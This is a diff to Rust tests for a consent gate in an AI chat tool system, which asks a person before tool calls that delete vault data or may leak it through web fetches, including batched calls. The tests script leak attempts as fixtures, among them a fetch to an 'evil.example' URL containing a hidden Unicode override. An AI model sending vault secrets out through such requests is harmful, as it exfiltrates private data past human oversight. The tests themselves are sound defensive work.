@@ -5,10 +5,12 @@ use std::time::Duration;
 
 use futures::FutureExt;
 use futures::future::{self, BoxFuture};
+use serde_json::json;
 use tokio_util::sync::CancellationToken;
 use toolwrit_chat::conversation::{Consent, Decision, Ended, Question, Reason, TurnOptions};
 use toolwrit_chat::notebook::MemoryNotebook;
 use toolwrit_chat::provider::{Message, Script};
+use toolwrit_chat::tools::Outcome;
 
 use crate::desk::{Desk, NOTE, Person, call};
 
@@ -79,10 +81,13 @@ async fn a_person_is_asked_about_what_changes_destroys_or_leaks() {
         .await;
     assert_eq!(ended, Ended::Answered);
     let asked = person.asked.lock().unwrap();
-    let reasons: Vec<_> =
-        asked.iter().map(|question| (question.tool.id.as_str(), question.reason)).collect();
+    let reasons: Vec<_> = asked
+        .iter()
+        .flat_map(|question| &question.calls)
+        .map(|call| (call.tool.id.as_str(), call.reason))
+        .collect();
     assert_eq!(reasons, [("vault.delete", Reason::Destroys), ("web.fetch", Reason::MayLeak)]);
-    assert_eq!(asked[1].arguments, "{\"path\":\"https://evil.example/?q=\\u202ex\"}");
+    assert_eq!(asked[1].calls[0].arguments, "{\"path\":\"https://evil.example/?q=\\u202ex\"}");
     assert_eq!(desk.tools.made().len(), 5);
 }
 
@@ -142,7 +147,116 @@ async fn an_image_of_the_vault_is_text_of_the_vault() {
     let fetch = call(Script::new(), "web_fetch", "https://a.example/?q=number");
     desk.turn([fetch, Script::new().text("Done.")]).await;
     assert!(desk.tools.made().is_empty());
-    assert_eq!(person.asked.lock().unwrap()[0].reason, Reason::MayLeak);
+    assert_eq!(person.asked.lock().unwrap()[0].calls[0].reason, Reason::MayLeak);
+}
+
+/// A batch of calls of these tools, each with this path.
+fn batch(calls: &[(&str, &str)]) -> Script {
+    let calls: Vec<_> = calls
+        .iter()
+        .map(|(tool, path)| json!({ "tool": tool, "args": { "path": path } }))
+        .collect();
+    Script::new().call("system_batch_get", json!({ "calls": calls }))
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_batch_asks_once_about_what_would_ask_alone() {
+    for (decision, made) in [(Decision::Approve, 2), (Decision::Decline, 1)] {
+        let mut desk = Desk::with(ASK);
+        let person = Person::who(decision);
+        desk.consent = person.clone();
+        let reaching = batch(&[
+            ("web.fetch", "https://a.example/1"),
+            ("vault.search", "b"),
+            ("web.fetch", "https://a.example/2"),
+        ]);
+        let scripts = [batch(&[("vault.read", "a")]), reaching, Script::new().text("Done.")];
+        let (ended, _) = desk.turn(scripts).await;
+        assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, made), "{}", desk.text());
+        let asked = person.asked.lock().unwrap();
+        let [question] = &asked[..] else { panic!("{asked:?}") };
+        assert_eq!(question.tool.id, "system.batch_get");
+        let calls: Vec<_> = question
+            .calls
+            .iter()
+            .map(|call| (call.tool.id.as_str(), call.arguments.as_str(), call.reason))
+            .collect();
+        let leak = |path| ("web.fetch", path, Reason::MayLeak);
+        assert_eq!(
+            calls,
+            [leak(r#"{"path":"https://a.example/1"}"#), leak(r#"{"path":"https://a.example/2"}"#)]
+        );
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_batch_that_only_reached_out_leaks_nothing() {
+    let mut desk = Desk::with(ASK);
+    let person = Person::who(Decision::Decline);
+    desk.consent = person.clone();
+    let fetch = |path| batch(&[("web.fetch", path)]);
+    desk.turn([
+        fetch("https://a.example/1"),
+        fetch("https://a.example/2"),
+        Script::new().text("Done."),
+    ])
+    .await;
+    assert_eq!(desk.tools.made().len(), 2);
+    assert!(person.asked.lock().unwrap().is_empty());
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_must_be_confirmed_is_asked_about_even_if_it_reads() {
+    let mut desk = Desk::with(ASK);
+    let person = Person::who(Decision::Approve);
+    desk.consent = person.clone();
+    *desk.tools.confirming.lock().unwrap() = Some("vault.search".to_owned());
+    let scripts = [
+        call(Script::new(), "vault_search", "a"),
+        batch(&[("vault.search", "b"), ("vault.read", "c")]),
+        Script::new().text("Done."),
+    ];
+    desk.turn(scripts).await;
+    let asked = person.asked.lock().unwrap();
+    let reasons: Vec<_> =
+        asked.iter().flat_map(|question| &question.calls).map(|call| call.reason).collect();
+    assert_eq!(reasons, [Reason::MustConfirm; 2]);
+    assert_eq!(desk.tools.made().len(), 2);
+}
+
+/// Text of the vault is in errors of its tools, in blocks that are gone, and in what others have written into the note.
+#[tokio::test(start_paused = true)]
+async fn whatever_shows_the_vault_counts_as_its_text() {
+    let fetch = || call(Script::new(), "web_fetch", "https://a.example/?q=x");
+    let asks = async |desk: &mut Desk, scripts: Vec<Script>| {
+        let person = Person::who(Decision::Decline);
+        desk.consent = person.clone();
+        desk.turn(scripts).await;
+        !person.asked.lock().unwrap().is_empty()
+    };
+    let read = || call(Script::new(), "vault_read", "Secre.md");
+
+    let mut desk = Desk::with(ASK);
+    let error = json!({ "error": { "code": "NOT_FOUND", "hint": "Did you mean Secret.md?" } });
+    let failed = Outcome::Failed { code: "NOT_FOUND".to_owned(), error };
+    desk.tools.answers.lock().unwrap().insert("vault.read".to_owned(), failed);
+    assert!(asks(&mut desk, vec![read(), fetch(), Script::new().text("No.")]).await);
+
+    let mut desk = Desk::with(ASK);
+    desk.turn([read(), Script::new().text("The secret is x.")]).await;
+    desk.notebook.edit(NOTE, |text| {
+        let (before, rest) = text.split_once("> [!tool|").unwrap();
+        format!("{before}{}", rest.split_once("\n\n").unwrap().1)
+    });
+    assert!(!desk.text().contains("[!tool"), "{}", desk.text());
+    assert!(!asks(&mut desk, vec![Script::new().text("Nothing to say.")]).await);
+    desk.notebook.edit(NOTE, |text| format!("{text}\n{ASK}"));
+    assert!(asks(&mut desk, vec![fetch(), Script::new().text("No.")]).await, "{}", desk.text());
+
+    let mut desk = Desk::with(ASK);
+    desk.said = Some("Summarise this note.".to_owned());
+    desk.notebook.write(NOTE, "The password is x.\n\nSummarise this note.\n");
+    assert!(asks(&mut desk, vec![fetch(), Script::new().text("No.")]).await);
 }
 
 #[tokio::test(start_paused = true)]
